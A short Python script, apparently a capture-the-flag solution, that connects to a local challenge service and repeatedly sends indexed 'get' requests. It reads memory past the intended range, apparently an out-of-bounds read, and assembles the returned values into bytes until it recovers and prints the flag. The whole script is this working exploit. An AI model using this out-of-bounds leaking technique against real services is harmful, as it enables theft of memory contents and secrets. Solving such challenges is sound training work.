import socket

with socket.create_connection(("127.0.0.1", 7000)) as link:
    talk, text, place = link.makefile("rwb", buffering=0), b"", 10
    while b"}" not in text:
        talk.write(f"get {place}\n".encode())
        text += int(talk.readline()).to_bytes(4, "little", signed=True)
        place += 1
    print(text[text.index(b"flag{") :].split(b"}")[0].decode() + "}")
